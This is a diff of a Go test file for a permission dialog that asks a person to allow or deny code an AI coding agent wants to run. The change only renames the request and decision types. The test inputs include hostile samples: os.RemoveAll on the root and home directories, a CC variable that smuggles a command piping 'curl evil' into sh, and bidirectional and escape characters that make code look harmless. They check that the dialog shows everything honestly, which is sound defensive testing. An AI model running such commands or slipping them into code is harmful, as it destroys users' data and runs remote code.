@@ -10,7 +10,7 @@ import (
 	"fyne.io/fyne/v2/test"
 	"fyne.io/fyne/v2/widget"
 
-	"trestle/app"
+	"trestle/app/permission"
 )
 
 // walkOverlay calls fn for every object in the top overlay (a dialog).
@@ -55,17 +55,17 @@ type askHarness struct {
 	t   *testing.T
 	w   *Window
 	run chan<- func()
-	got chan app.Decision
+	got chan permission.Decision
 }
 
-func startAsk(t *testing.T, req app.PermissionRequest) *askHarness {
+func startAsk(t *testing.T, req permission.Request) *askHarness {
 	t.Helper()
 	w := newTestWindow(t)
 	fake, run := fakeMain(t)
 	old := mainThread
 	mainThread = fake
 	t.Cleanup(func() { mainThread = old })
-	h := &askHarness{t: t, w: w, run: run, got: make(chan app.Decision, 1)}
+	h := &askHarness{t: t, w: w, run: run, got: make(chan permission.Decision, 1)}
 	ctx, cancel := context.WithCancel(context.Background())
 	asked := make(chan struct{})
 	go func() {
@@ -151,7 +151,7 @@ func unwrap(t *testing.T, view string) string {
 }
 
 // tap taps the button labelled text once it is enabled, and returns the answer.
-func (h *askHarness) tap(text string) app.Decision {
+func (h *askHarness) tap(text string) permission.Decision {
 	h.t.Helper()
 	h.waitFor(text+" enabled", func() bool {
 		b := findButton(h.w.win.Canvas(), text)
@@ -164,20 +164,20 @@ func (h *askHarness) tap(text string) app.Decision {
 	case <-time.After(10 * time.Second):
 		h.t.Fatal("Ask did not return after the tap")
 	}
-	return app.Deny
+	return permission.Deny
 }
 
 func TestAskReturnsThePersonsAnswer(t *testing.T) {
 	for _, tc := range []struct {
 		button string
-		want   app.Decision
+		want   permission.Decision
 	}{
-		{"Allow once", app.AllowOnce},
-		{"Allow for this session", app.AllowSession},
-		{"Deny", app.Deny},
+		{"Allow once", permission.AllowOnce},
+		{"Allow for this session", permission.AllowSession},
+		{"Deny", permission.Deny},
 	} {
 		t.Run(tc.button, func(t *testing.T) {
-			h := startAsk(t, app.PermissionRequest{Client: "claude-code", Session: "conn-1", Kind: "evaluate", Detail: "os.RemoveAll(\"/\")"})
+			h := startAsk(t, permission.Request{Client: "claude-code", Session: "conn-1", Kind: "evaluate", Detail: "os.RemoveAll(\"/\")"})
 			if d := h.tap(tc.button); d != tc.want {
 				t.Fatalf("decision %v, want %v", d, tc.want)
 			}
@@ -190,7 +190,7 @@ func TestAskReturnsThePersonsAnswer(t *testing.T) {
 func TestAskShowsAllTheCode(t *testing.T) {
 	long := "var s = \"" + strings.Repeat("0123456789", 30) + "\"; os.RemoveAll(os.Getenv(\"HOME\"))"
 	code := strings.Repeat("// a harmless looking comment line\n", 200) + long + "\n"
-	h := startAsk(t, app.PermissionRequest{Client: "claude-code", Session: "conn-1", Kind: "evaluate", Detail: code})
+	h := startAsk(t, permission.Request{Client: "claude-code", Session: "conn-1", Kind: "evaluate", Detail: code})
 	labels, views := h.shown()
 	if len(views) != 1 || unwrap(t, views[0])+"\n" != code {
 		t.Fatalf("the dialog does not show all %d bytes of the code", len(code))
@@ -205,7 +205,7 @@ func TestAskShowsAllTheCode(t *testing.T) {
 func TestAskShowsBigCodeQuickly(t *testing.T) {
 	for _, code := range []string{strings.Repeat("x", maxAskBytes-64), strings.Repeat("x := 1 + 2 // comment\n", (maxAskBytes-64)/22)} {
 		start := time.Now()
-		h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
+		h := startAsk(t, permission.Request{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
 		h.onMain(func() { h.w.win.Canvas().Capture() })
 		if took := time.Since(start); took > 20*time.Second {
 			t.Errorf("%d bytes in %d lines took %v to show", len(code), strings.Count(code, "\n")+1, took)
@@ -218,7 +218,7 @@ func TestAskShowsBigCodeQuickly(t *testing.T) {
 // it all, so there is no Allow at all.
 func TestAskOffersOnlyDenyForWhatItCannotShow(t *testing.T) {
 	code := strings.Repeat("x := 1\n", maxAskBytes/7+10)
-	h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
+	h := startAsk(t, permission.Request{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
 	for _, b := range []string{"Allow once", "Allow for this session"} {
 		if h.button(b) != nil {
 			t.Fatalf("%q is offered for %d bytes of code", b, len(code))
@@ -227,7 +227,7 @@ func TestAskOffersOnlyDenyForWhatItCannotShow(t *testing.T) {
 	if labels, _ := h.shown(); !containsPart(labels, "can only be denied") {
 		t.Fatalf("the dialog does not say why: %q", labels)
 	}
-	if d := h.tap("Deny"); d != app.Deny {
+	if d := h.tap("Deny"); d != permission.Deny {
 		t.Fatalf("decision %v", d)
 	}
 }
@@ -235,7 +235,7 @@ func TestAskOffersOnlyDenyForWhatItCannotShow(t *testing.T) {
 // TestAskHighlightsAllowOnce (issue 15): the highlighted choice was the
 // broadest one, "Allow for this session".
 func TestAskHighlightsAllowOnce(t *testing.T) {
-	h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
+	h := startAsk(t, permission.Request{Client: "c", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
 	var once, session widget.Importance
 	h.onMain(func() {
 		once = findButton(h.w.win.Canvas(), "Allow once").Importance
@@ -250,13 +250,13 @@ func TestAskHighlightsAllowOnce(t *testing.T) {
 // must not take a click meant for what was there before.
 func TestAskArmsAllowAfterAMoment(t *testing.T) {
 	start := time.Now()
-	h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
+	h := startAsk(t, permission.Request{Client: "c", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
 	var disabled bool
 	h.onMain(func() { disabled = findButton(h.w.win.Canvas(), "Allow once").Disabled() })
 	if !disabled && time.Since(start) < askArm {
 		t.Fatal("Allow once takes a click the moment the dialog appears")
 	}
-	if d := h.tap("Allow once"); d != app.AllowOnce {
+	if d := h.tap("Allow once"); d != permission.AllowOnce {
 		t.Fatalf("decision %v", d)
 	}
 	if time.Since(start) < askArm {
@@ -267,7 +267,7 @@ func TestAskArmsAllowAfterAMoment(t *testing.T) {
 // TestAskShowsTheEnvironment is issue 11 item 8: a selection's CC ran a
 // shell command while the dialog showed only "go build ./...".
 func TestAskShowsTheEnvironment(t *testing.T) {
-	h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "run", Detail: "go build ./...",
+	h := startAsk(t, permission.Request{Client: "c", Session: "conn-1", Kind: "run", Detail: "go build ./...",
 		Selection: "cgo", Env: []string{"CC=sh -c 'curl evil | sh' #", "CGO_ENABLED=1"}, Tags: []string{"evil"}, Dir: "pkg"})
 	labels, views := h.shown()
 	all := strings.Join(views, "\n")
@@ -285,7 +285,7 @@ func TestAskShowsTheEnvironment(t *testing.T) {
 // makes code read unlike it runs; the dialog shows them.
 func TestAskShowsInvisibleCharacters(t *testing.T) {
 	code := "ok := true // \u202e } \u2066if ok {\u2069\nfmt.Println(\"\x1b[2K\rfine\")\n\xff"
-	h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
+	h := startAsk(t, permission.Request{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
 	labels, views := h.shown()
 	all := strings.Join(views, "\n")
 	for _, want := range []string{"«U+202E»", "«U+2066»", "«U+2069»", "«ESC»[2K«CR»fine", "«0xFF»"} {
@@ -302,8 +302,8 @@ func TestAskDeniesWhenTheCallerGivesUp(t *testing.T) {
 	w := newTestWindow(t)
 	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
 	defer cancel()
-	d, err := w.Ask(ctx, app.PermissionRequest{Client: "c", Kind: "run", Detail: "go test ./..."})
-	if err != nil || d != app.Deny {
+	d, err := w.Ask(ctx, permission.Request{Client: "c", Kind: "run", Detail: "go test ./..."})
+	if err != nil || d != permission.Deny {
 		t.Fatalf("got %v, %v; want Deny", d, err)
 	}
 }
@@ -316,10 +316,10 @@ func containsPart(list []string, part string) bool {
 // agents, or one flooding) never stack dialogs; the next shows once the
 // person has answered the one before.
 func TestAskShowsOneDialogAtATime(t *testing.T) {
-	h := startAsk(t, app.PermissionRequest{Client: "first", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
-	second := make(chan app.Decision, 1)
+	h := startAsk(t, permission.Request{Client: "first", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
+	second := make(chan permission.Decision, 1)
 	go func() {
-		d, _ := h.w.Ask(context.Background(), app.PermissionRequest{Client: "second", Session: "conn-2", Kind: "run", Detail: "go vet ./..."})
+		d, _ := h.w.Ask(context.Background(), permission.Request{Client: "second", Session: "conn-2", Kind: "run", Detail: "go vet ./..."})
 		second <- d
 	}()
 	// Stacking shows within milliseconds; a second of one dialog is enough
@@ -339,7 +339,7 @@ func TestAskShowsOneDialogAtATime(t *testing.T) {
 			t.Fatalf("%d dialogs shown, the top one %q; want only the first's", overlays, title)
 		}
 	}
-	if d := h.tap("Deny"); d != app.Deny {
+	if d := h.tap("Deny"); d != permission.Deny {
 		t.Fatalf("first: %v", d)
 	}
 	h.waitFor("the second dialog", func() bool {
@@ -358,7 +358,7 @@ func TestAskShowsOneDialogAtATime(t *testing.T) {
 	h.onMain(func() { test.Tap(findButton(h.w.win.Canvas(), "Allow once")) })
 	select {
 	case d := <-second:
-		if d != app.AllowOnce {
+		if d != permission.AllowOnce {
 			t.Fatalf("second: %v", d)
 		}
 	case <-time.After(10 * time.Second):
@@ -369,7 +369,7 @@ func TestAskShowsOneDialogAtATime(t *testing.T) {
 // TestAskEscapeDeniesAndClearsTheWait: Escape closes the ask dialog as a
 // Deny, and the status bar stops saying the agent is waiting.
 func TestAskEscapeDeniesAndClearsTheWait(t *testing.T) {
-	h := startAsk(t, app.PermissionRequest{Client: "claude-code", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
+	h := startAsk(t, permission.Request{Client: "claude-code", Session: "conn-1", Kind: "run", Detail: "go test ./..."})
 	h.waitFor("the dialog", func() bool { return findButton(h.w.win.Canvas(), "Deny") != nil })
 	var waiting string
 	h.onMain(func() {
@@ -380,7 +380,7 @@ func TestAskEscapeDeniesAndClearsTheWait(t *testing.T) {
 	})
 	select {
 	case d := <-h.got:
-		if d != app.Deny {
+		if d != permission.Deny {
 			t.Fatalf("Escape answered %v, want Deny", d)
 		}
 	case <-time.After(10 * time.Second):
